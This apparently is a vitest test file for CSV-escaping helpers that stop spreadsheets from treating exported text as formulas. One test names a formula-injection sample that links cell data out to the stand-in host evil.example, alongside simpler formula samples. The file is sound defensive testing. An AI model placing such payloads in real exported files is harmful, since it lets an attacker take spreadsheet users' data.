import { describe, expect, it } from 'vitest'
import { csvComment, csvField, csvLineField, textOfField } from './csvField.ts'
import { calculatedCells, HOSTILE_TEXTS, spreadsheetCells } from './hostileTexts.fixture.ts'

it.each([
  ['as it is', 'Quay Street', 'Quay Street'],
  ['with a comma', 'Quay, east', '"Quay, east"'],
  ['with quotes', 'the "old" quay', '"the ""old"" quay"'],
  ['on two lines', 'Quay\nStreet', '"Quay\nStreet"'],
  ['with the sign of a comment', 'Bay #3', '"Bay #3"'],
  ['with what separates cells elsewhere', 'Bay; east', '"Bay; east"'],
  ['that a spreadsheet would calculate', '=1+1', "'=1+1"],
  ['that does both', '@a,b', '"\'@a,b"'],
  ['that is a negative number', '-3.2', '-3.2'],
  ['that is a small negative number', '-3.2e-7', '-3.2e-7'],
  ['that only begins like one', '-3.2+1', "'-3.2+1"],
  ['of a phone', '+34 600 000 000', "'+34 600 000 000"],
  ['with a formula behind another separator', 'Roof; =1+1', '"Roof; \'=1+1"'],
])('writes a CSV text %s', (_, text, field) => {
  expect(csvField(text)).toBe(field)
})

it.each([
  ['=1+1', "'=1+1"],
  ['-3.2', '-3.2'],
  ["'quoted'", "'quoted'"],
  ["'-3.2", "'-3.2"],
  ["d'Artagnan; -1", "d'Artagnan; '-1"],
  ['Roof; =1+1', "Roof; '=1+1"],
  ['; ;=1', "; ;'=1"],
])('reads %j from CSV as it was before it was written', (text, field) => {
  expect(unquoted(csvField(text))).toBe(field)
  expect(textOfField(field)).toBe(text)
})

/** A field without the quotes around it, as a reader of CSV gives it. */
const unquoted = (field: string): string =>
  field.startsWith('"') ? field.slice(1, -1).replaceAll('""', '"') : field

describe.each(HOSTILE_TEXTS)('the hostile text %j', (text) => {
  it('keeps a hostile text from being calculated, as a field and as a comment', () => {
    for (const file of [
      `time,name,value\r\n2026,${csvField(text)},-3.2\r\n`,
      `time,name,value\r\n2026,${csvLineField(text)},-3.2\r\n`,
      csvComment(`Data point ${text}: ${text}, ppb`),
      csvComment(text),
    ]) {
      expect(calculatedCells(file)).toEqual([])
    }
  })

  it('writes a hostile text as the same field after reading it back', () => {
    for (const field of [csvField(text), csvLineField(text)]) {
      expect(csvField(textOfField(unquoted(field)))).toBe(field)
    }
  })

  it('keeps a hostile text in one cell', () => {
    expect(spreadsheetCells(`a,${csvField(text)},b`, ',')).toHaveLength(3)
    expect(spreadsheetCells(csvComment(text).trimEnd(), ',')).toHaveLength(1)
    expect(spreadsheetCells(csvComment(text).trimEnd(), ';')).toHaveLength(1)
  })
})

it('finds hostile cells that were written without the rule', () => {
  const found = HOSTILE_TEXTS.filter((text) => calculatedCells(`# ${text}: x`).length > 0)
  expect(found).toContain('Roof,=HYPERLINK("http://evil.example/?"&A9;"click")')
  expect(found).toContain('raw:a,=HYPERLINK(1)')
})

it('reads a long run of blanks quickly', () => {
  const startedAt = performance.now()
  expect(csvField(`a${'\n'.repeat(500_000)}b`)).toHaveLength(500_004)
  expect(performance.now() - startedAt).toBeLessThan(1000)
})
